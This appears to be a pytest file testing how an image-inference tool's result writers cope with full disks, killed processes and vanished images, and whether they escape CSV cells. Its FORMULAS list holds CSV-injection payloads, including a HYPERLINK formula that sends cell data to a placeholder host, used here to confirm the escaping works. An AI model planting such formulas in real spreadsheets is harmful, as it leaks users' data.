"""What a full disk, a kill and images that go away leave of an inference's results."""

from __future__ import annotations

import csv
import json
import os
import resource
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
import torch

import inference
from common.atomic_io import ResultsError
from common.formatting import csv_cell
from common.paths import ROOT
from data_loader.preprocess import ImageError, Preprocess
from deploy.inference.class_prediction import ClassPrediction
from deploy.inference.image_writers import AnnotatedCopies, SortedCopies
from deploy.inference.predictor import Predictor
from deploy.inference.result_writer import open_results
from deploy.uncertainty.review_folder import ReviewFolder
from tests.helpers.calibrated import NAMES, grey, metadata_with
from tests.helpers.exported import TinyNet, build_metadata, export_onnx, paint

COLUMNS = ClassPrediction.csv_columns(metadata_with(calibration=None), topk=1)


@contextmanager
def full_disk(size: int) -> Iterator[None]:
    """Let no file grow beyond so many bytes: the system writes what fits of a row, and fails with EFBIG."""
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (size, before[1]))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)


def row(number: int) -> ClassPrediction:
    name = f"images/猫,\n{number}.png"  # a name with a line break: a row is no line
    return ClassPrediction(name, 0, "猫", 0.75, (("猫", 0.75),))


def rows_of(path: Path) -> list[dict[str, Any]]:
    """Read a results file with other programs' readers."""
    text = path.read_text(encoding="utf-8-sig")
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as file:
            return list(csv.DictReader(file))
    found: list[dict[str, Any]] = (
        json.loads(text) if path.suffix == ".json" else [json.loads(line) for line in text.splitlines()]
    )
    return found


@pytest.mark.parametrize("size", [4096, 4100, 4133, 5000])
@pytest.mark.parametrize("suffix", [".csv", ".json", ".jsonl"])
def test_a_full_disk_takes_no_row_that_was_written(suffix: str, size: int, tmp_path: Path) -> None:
    path, written = tmp_path / f"r{suffix}", 0
    with full_disk(size), open_results(path, COLUMNS) as results:
        with pytest.raises(ResultsError) as failure:
            for number in range(1000):
                results.write(row(number))
                written += 1
        assert str(failure.value) == f"{path}: cannot write it: File too large; the {written} rows before it are kept"
    assert 10 < written < 1000
    assert [found["file"] for found in rows_of(path)] == [row(number).file for number in range(written)]
    assert [entry.name for entry in tmp_path.iterdir()] == [path.name]


@pytest.fixture
def exported(tmp_path: Path) -> Path:
    path = tmp_path / "model.onnx"
    export_onnx(TinyNet().eval(), torch.randn(2, 3, 16, 16), path, build_metadata(16))
    for number in range(60):
        paint(tmp_path / f"images/{number:02d}.png", number % 3, number)
    return path


def run(weights: Path, *more: object) -> int:
    images = weights.parent / "images"
    flags = ("--weights", weights, "--image_dir", images, "--quiet", "--runtime", "onnxruntime", *more)
    return inference.main([str(flag) for flag in flags])


def test_an_inference_that_fills_the_disk_keeps_its_rows_and_says_how_many(
    exported: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    output = exported.with_name("a.csv")
    with full_disk(2048):
        assert run(exported, "--output", output) == 2
    kept = rows_of(output)
    assert 5 < len(kept) < 60 and all(found["class"] in ("猫", "dog", "bird/s") for found in kept)
    captured = capsys.readouterr()
    assert captured.err == (
        f"inference.py: {output}: cannot write it: File too large; the {len(kept)} rows before it are kept\n"
    )
    assert captured.out.endswith(f"results in {output}\n")


@pytest.mark.parametrize("how", ["folders", "annotated"])
def test_images_that_go_away_after_their_prediction_end_nothing(
    how: str, exported: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every twentieth image is removed when its prediction is there."""
    original = Predictor.predict_files

    def vanishing(self: Predictor, *arguments: Any) -> Iterator[Any]:
        for prediction in original(self, *arguments):
            if prediction.file.endswith(("00.png", "20.png", "40.png")):
                Path(prediction.file).unlink()
            yield prediction

    monkeypatch.setattr(Predictor, "predict_files", vanishing)
    output, copies = exported.with_name("a.csv"), exported.with_name("copies")
    assert run(exported, "--output", output, "--save_images", copies, "--save_as", how) == 1
    captured = capsys.readouterr()
    assert len(rows_of(output)) == 60 and sum(path.is_file() for path in copies.rglob("*")) == 57
    lines = captured.err.splitlines()
    assert len(lines) == 3 and lines[0].startswith(
        f"inference.py: {exported.parent}/images/00.png: it has a prediction, and is not copied: "
    )
    assert "60 answered, 0 failed, 3 not copied, " in captured.out


def test_the_image_is_blamed_where_it_is_the_images_fault(tmp_path: Path) -> None:
    gone = ClassPrediction(str(tmp_path / "gone.png"), 0, "猫", 0.5, (("猫", 0.5),))
    with pytest.raises(ImageError, match=r"^it cannot be read any more: No such file or directory$"):
        SortedCopies(tmp_path / "out", NAMES).add(gone, "gone.png")
    with pytest.raises(ImageError, match=r"^no such file$"):
        AnnotatedCopies(tmp_path / "out", Preprocess(8, 8)).add(gone, "gone.png")
    there = ClassPrediction(grey(tmp_path / "there.png", 9, (200, 200)), 0, "猫", 0.5, (("猫", 0.5),))
    with full_disk(10), pytest.raises(ResultsError, match=r"out/猫/there\.png: cannot write it: File too large$"):
        SortedCopies(tmp_path / "out", NAMES).add(there, "there.png")


def test_an_image_that_went_away_is_left_out_of_those_to_label(tmp_path: Path) -> None:
    review = ReviewFolder(tmp_path / "aside", metadata_with())
    for number, name in enumerate(("a.png", "gone.png", "b.png")):
        path = grey(tmp_path / name, number)
        review.add(ClassPrediction(path, 0, "猫", 0.5, uncertainty=1 - number / 10, decision="set_aside"))
    (tmp_path / "gone.png").unlink()
    ((file, error),) = review.finish()
    assert (file, str(error)) == (str(tmp_path / "gone.png"), "it cannot be read any more: No such file or directory")
    assert (tmp_path / "aside/to_label.txt").read_text() == "0001_a.png----?\n0003_b.png----?\n"
    assert (tmp_path / "aside/contact_sheet.png").is_file()


KILLED = """
import os, sys
from pathlib import Path
from common.atomic_io import atomic_path
with atomic_path(Path(sys.argv[1])) as temporary:
    temporary.write_bytes(b"half")
    os.kill(os.getpid(), 9)
"""


@pytest.mark.parametrize("name", ["a.csv", "猫.png", "x" * 250])
def test_what_a_killed_process_left_is_removed_by_the_next(name: str, tmp_path: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-c", KILLED, str(tmp_path / name)], cwd=ROOT, env=os.environ | {"PYTHONPATH": "."}
    )
    (left,) = tmp_path.iterdir()
    assert done.returncode == -9 and left.name.startswith(".") and left.suffix == ".tmp"
    ending = left.name.rpartition(".")[0].rpartition(".")[0]  # without process and .tmp
    others = [f"{ending}.{os.getppid()}.tmp", ".a.csv.elsewhere.1.tmp", ".a.csv.4194304.tmp", "a.tmp"]
    for other in others:
        (tmp_path / other).write_text("of a running process, of another machine, of nobody")
    with open_results(tmp_path / "r.csv", COLUMNS) as results:
        results.write(row(1))
    assert sorted(path.name for path in tmp_path.iterdir()) == sorted([*others, "r.csv"])


FORMULAS = [
    '=HYPERLINK("http:example.invalid?"&A1).png',
    "@SUM(1+1)*cmd.png",
    "+1+1.png",
    "-2+3.png",
    "\t=1.png",
    "\r=1",
]


def test_no_cell_of_a_csv_is_a_formula(tmp_path: Path) -> None:
    """Each name of a file, a class and an error; numbers below 0 stay numbers."""
    rows = [ClassPrediction(name, 0, name, 0.5, ((name, 0.5),), measures=(("score", -1.5e-3),)) for name in FORMULAS]
    rows.append(ClassPrediction("a.png", error="=cmd"))
    for raw in (False, True):
        with open_results(tmp_path / "r.csv", (*COLUMNS, "score"), escape_formulas=not raw) as results:
            for one in rows:
                results.write(one)
        with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as file:
            cells = [cell for line in csv.reader(file) for cell in line]
        live = [cell for cell in cells if cell[:1] in set("=+-@\t\r") and cell != "-0.0015"]
        assert live == ([*(name for name in FORMULAS for _ in range(2)), "=cmd"] if raw else [])
        assert cells.count("-0.0015") == len(FORMULAS)
        if not raw:
            assert cells.count(f"'{FORMULAS[0]}") == 2


@pytest.mark.parametrize(
    ("cell", "expected"),
    [("-1.5e-07", "-1.5e-07"), ("-inf", "-inf"), ("+3", "+3"), ("-1+1", "'-1+1"), ("=1", "'=1"), (-3, -3),
     ("a=1", "a=1"), ("\t1", "'\t1"), ("-.5", "-.5"), ("-", "'-"), ("-2e5x", "'-2e5x"), ("", "")],
)  # fmt: skip
def test_a_number_is_no_formula(cell: object, expected: object) -> None:
    assert csv_cell(cell) == expected
